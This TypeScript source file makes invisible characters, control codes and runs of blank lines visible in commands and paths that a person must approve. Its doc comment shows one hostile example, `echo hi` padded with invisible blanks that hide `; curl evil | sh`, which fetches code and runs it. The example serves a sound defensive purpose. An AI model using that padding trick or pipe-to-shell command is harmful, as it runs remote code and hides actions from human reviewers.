import { sanitizeForTerminal, type TerminalSafe } from './sanitize-terminal.js';

/**
 * Text a person must read in full before approving it (a command, a path, a tool's arguments), with
 * everything that could hide part of it made visible:
 *
 * - runs of invisible or blank-looking characters become a marker naming the character and its
 *   count: `echo hi` + 200 × U+2800 + `; curl evil | sh` reads `echo hi⟨U+2800 ×200⟩; curl evil | sh`
 *   (Braille and Hangul blanks, zero-width characters, word joiners, bidi controls, the BOM, tag
 *   characters, variation selectors, NBSP and the other Unicode spaces); control characters show
 *   as the terminal sanitiser shows them (`␛[2J`, `⟨U+009B⟩`);
 * - runs of two or more blank lines become `⟨N blank lines⟩`, so a panel cannot be scrolled off.
 *
 * Plain spaces and tabs stay (front ends wrap long lines in full). Pure: the web page uses it too.
 */
export function revealInvisible(text: string): TerminalSafe {
  // Markers and the text's own (sanitised) characters: still safe.
  return revealInvisibleLines(text).replace(
    BLANK_LINES,
    (run) => `\n⟨${run.split('\n').length - 2} blank lines⟩\n`,
  ) as TerminalSafe;
}

/**
 * `revealInvisible` for text that must stay on one line (a path, an entry of a list): a newline
 * shows as `␊` and a tab as `␉`, so the text cannot start a line that reads as another entry.
 */
export function revealInvisibleOneLine(text: string): TerminalSafe {
  const shown = revealInvisible(text);
  return (
    /[\n\t]/.test(shown) ? shown.replace(/\n/g, '\u240a').replace(/\t/g, '\u2409') : shown
  ) as TerminalSafe;
}

/**
 * `revealInvisible` for text whose lines are shown one by one with their numbers (a diff's old and
 * new text): every character is revealed the same way, but the lines stay as they are, blank ones
 * included, so line N of the result is line N of the text (a `\r\n` line end is a plain newline).
 */
export function revealInvisibleLines(text: string): TerminalSafe {
  // Control characters first, as every terminal front end shows them (`␛`, `␍`, `⟨U+202E⟩`).
  const safe = sanitizeForTerminal(text);
  return (INVISIBLE_TEST.test(safe) ? safe.replace(INVISIBLE_RUN, marker) : safe) as TerminalSafe;
}

/**
 * Characters that show as nothing or as blank space, or that change how the text around them
 * shows. Tab and newline are not among them.
 */
const INVISIBLE_CLASS =
  '[\\u00A0\\u00AD\\u034F\\u061C\\u115F\\u1160\\u1680\\u17B4\\u17B5' +
  '\\u180B-\\u180F\\u2000-\\u200F\\u2028-\\u202F\\u205F-\\u206F\\u2800\\u3000\\u3164\\uFE00-\\uFE0F' +
  '\\uFEFF\\uFFA0\\uFFF9-\\uFFFB\\u{1D159}\\u{1D173}-\\u{1D17A}\\u{E0000}-\\u{E007F}\\u{E0100}-\\u{E01EF}]';
const INVISIBLE_TEST = new RegExp(INVISIBLE_CLASS, 'u');
/** One character of the class, repeated: a run of the same character is one marker. */
const INVISIBLE_RUN = new RegExp(`(${INVISIBLE_CLASS})\\1*`, 'gu');
const BLANK_LINES = /\n(?:[ \t]*\n){2,}/g;

function marker(run: string, char: string): string {
  const code = char.codePointAt(0) ?? 0;
  const name = `U+${code.toString(16).toUpperCase().padStart(4, '0')}`;
  const count = [...run].length;
  return count === 1 ? `⟨${name}⟩` : `⟨${name} ×${count}⟩`;
}
